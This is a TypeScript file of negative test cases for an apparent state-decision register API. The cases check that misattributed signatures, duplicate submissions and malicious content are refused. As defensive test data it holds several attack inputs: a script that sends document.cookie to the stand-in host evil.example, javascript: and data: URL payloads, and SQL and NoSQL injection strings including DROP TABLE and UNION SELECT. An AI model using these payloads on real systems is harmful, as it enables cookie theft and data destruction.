import { RegisterError } from '#kernel';

import { decision, logPosition, signAs } from '../../support/sign-as.js';
import { HELD, holdIfSame, refuseAs } from './answer.js';
import type { ApiFixture } from './api-fixture.js';
import { asEach, asMember } from './caller.js';
import type { NegativeRow } from './negative-row.type.js';

type Row = NegativeRow<ApiFixture>;

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
/** A decision of Germany, as `decision` makes one of the Netherlands. */
const german = (outcome: object = {}, rest: object = {}): object =>
  decision({ decidedBy: 'DE', ...outcome }, rest);

/** A German decision of which one part is replaced after it was assembled, as a careless signer would. */
const submitted = (
  id: string,
  input: string,
  code: string,
  part: string,
  change: (value: object) => object,
): Row[] =>
  asMember(id, input, code, async (fixture, caller) => {
    const statement = await signAs(fixture.node, 'DE', german(), {
      change: (parts) => {
        const name = [...parts.keys()].find((key) => key === part || key.startsWith(`${part}:`));
        if (name) parts.set(name, change(parts.get(name) as object));
      },
    });
    refuseAs(await fixture.submit(caller, statement));
  });

const named = (value: string) => (party: object) => ({ ...party, names: [{ value, kind: 'current' }] });

const NAMES: [input: string, value: string][] = [
  ['a name that turns round what follows it', 'Quill\u202erem Ventures'],
  ['a name in an isolate', '\u2066Quillmere\u2069'],
  ['a name that is not composed', 'Société'.normalize('NFD')],
  ['a name with a NUL', 'Quillmere\u0000Ventures'],
  ['a name with a line feed', 'Quillmere\nVentures'],
  ['a name of white space', '\u3000 \u2003'],
];

const STATES: [input: string, code: string][] = [
  ['full-width letters', 'ＮＬ'],
  ['a Cyrillic letter', 'СZ'],
  ['a letter of no width between', 'N\u200bL'],
];

/** Text that is a query to a database or one of its paths, where a value belongs. */
const METACHARACTERS = [
  "' OR '1'='1",
  "'; DROP TABLE record; --",
  '$.** ? (@ like_regex ".*")',
  '%_%',
  "\\' UNION SELECT value FROM party_name --",
  '{"$gt":""}',
];

const filter = (text: string): Row[] =>
  asMember('F22', `the filter ${text}`, 'INPUT_INVALID', async (fixture, caller) => {
    const query = 'query ($f: PrecedentFilter) { precedents(filter: $f) { edges { cursor } } }';
    refuseAs(
      await fixture.ask(caller, { query, variables: { f: { groundCodes: [text], decidedFrom: text } } }),
    );
  });

const id = (text: string): Row[] =>
  asEach('F22', `the id ${text}`, HELD, async (fixture, caller) => {
    const ask = (value: string) =>
      fixture.ask(caller, {
        query: 'query ($id: ID!) { precedent(id: $id) { id } }',
        variables: { id: value },
      });
    holdIfSame(await ask(text), await ask('no-such-record'), [text, 'no-such-record']);
  });

const name = (text: string): Row[] =>
  asMember('F22', `the name ${text} in a check`, HELD, async (fixture, caller) => {
    const before = await logPosition(fixture.node);
    const ask = (value: string) =>
      fixture.ask(caller, {
        query: `mutation ($i: CheckInput!) { check(input: $i) { __typename
          ... on CheckAnswer { hits { precedent { id } } } ... on Rejected { problems { code } } } }`,
        variables: {
          i: {
            parties: [{ role: 'investor', names: [`Zzyzx ${value}`] }],
            purpose: 'screening',
            caseReference: 'DE-1',
            clientRequestId: `row-${Math.random().toString(36).slice(2).padEnd(12, '0')}`,
          },
        },
      });
    const [attack, plain] = [await ask(text), await ask('plain')];
    refuseAs(attack);
    if (JSON.stringify(before) !== JSON.stringify(await logPosition(fixture.node))) return;
    holdIfSame(attack, plain, [text, 'plain']);
  });

/** Statements for others, twice, or with content that means something to a browser or a database (F18-F22). */
export const contentRows: readonly Row[] = [
  ...asMember('F18', 'a decision that the Netherlands signed', 'SUBMITTER_STATE', async (fixture, caller) =>
    refuseAs(await fixture.submit(caller, await signAs(fixture.node, 'NL', decision()))),
  ),
  ...asMember(
    'F18',
    'the authority of the Netherlands under a German key',
    'STATEMENT_KEY_ISSUER',
    async (fixture, caller) => {
      const iss = 'https://nl.demonstration.invalid/';
      refuseAs(await fixture.submit(caller, await signAs(fixture.node, 'DE', decision(), { iss })));
    },
  ),
  ...asMember(
    'F18',
    'a German report of what the Netherlands decided',
    'REPORTED_MEMBER',
    async (fixture, caller) => {
      const publicReference = { source: 'A newspaper (fictitious)', confidence: 'low' };
      const report = decision({ groundsFrom: 'published', publicReference });
      refuseAs(await fixture.submit(caller, await signAs(fixture.node, 'DE', report)));
    },
  ),
  ...asMember('F19', 'one statement five times at once', HELD, async (fixture, caller) => {
    const { size } = await logPosition(fixture.node);
    const statement = await signAs(fixture.node, 'DE', german());
    const answers = await Promise.all(Array.from({ length: 5 }, () => fixture.submit(caller, statement)));
    answers.forEach(refuseAs);
    const entries = (await logPosition(fixture.node)).size - size;
    if (entries === 1 && new Set(answers.map(({ text }) => text)).size === 1)
      throw new RegisterError(HELD, answers[0]?.text ?? '');
  }),
  ...asMember(
    'F19',
    'five times at once what another state signed',
    'SUBMITTER_STATE',
    async (fixture, caller) => {
      const statement = await signAs(fixture.node, 'NL', decision());
      const answers = await Promise.all(Array.from({ length: 5 }, () => fixture.submit(caller, statement)));
      answers.forEach(refuseAs);
    },
  ),
  ...submitted('F20', 'a link that is a script', 'PART_INVALID', 'outcome', (outcome) => ({
    ...outcome,
    publicReference: { source: 'x', confidence: 'low', url: 'javascript:alert(1)' },
  })),
  ...submitted('F20', 'a link that is a page', 'PART_INVALID', 'outcome', (outcome) => ({
    ...outcome,
    publicReference: { source: 'x', confidence: 'low', url: 'data:text/html,<script>alert(1)</script>' },
  })),
  ...submitted('F20', 'a file with a ground', 'PART_INVALID', 'ground', (ground) => ({
    ...ground,
    file: { name: 'grounds.svg', content: 'PHN2Zy8+' },
  })),
  ...submitted('F20', 'a text by a language that is a script', 'PART_INVALID', 'ground', (ground) => ({
    ...ground,
    text: { [SCRIPT]: 'x' },
  })),
  ...asMember('F20', 'a script in the text of a ground, which stays text', HELD, async (fixture, caller) => {
    const text = { en: `${SCRIPT} (fictitious)` };
    const statement = await signAs(
      fixture.node,
      'DE',
      german({}, { grounds: [{ code: 'ELE-06', weight: 'decisive', text }] }),
    );
    const submission = await fixture.submit(caller, statement);
    refuseAs(submission);
    const recordId = /"recordId":"([^"]+)"/.exec(submission.text)?.[1];
    const query = 'query ($id: ID!) { precedent(id: $id) { grounds { ... on Ground { texts { text } } } } }';
    const shown = await fixture.ask('nl-reader', { query, variables: { id: recordId } });
    const told = JSON.stringify(text.en);
    if (shown.type.startsWith('application/json') && shown.text.includes(told))
      throw new RegisterError(HELD, '');
  }),
  ...NAMES.flatMap(([input, value]) => submitted('F21', input, 'PART_INVALID', 'party', named(value))),
  ...STATES.flatMap(([input, code]) =>
    submitted('F21', `a state in ${input}`, 'PART_INVALID', 'outcome', (outcome) => ({
      ...outcome,
      decidedBy: code,
    })),
  ),
  ...METACHARACTERS.flatMap((text) => [...filter(text), ...id(text), ...name(text)]),
];
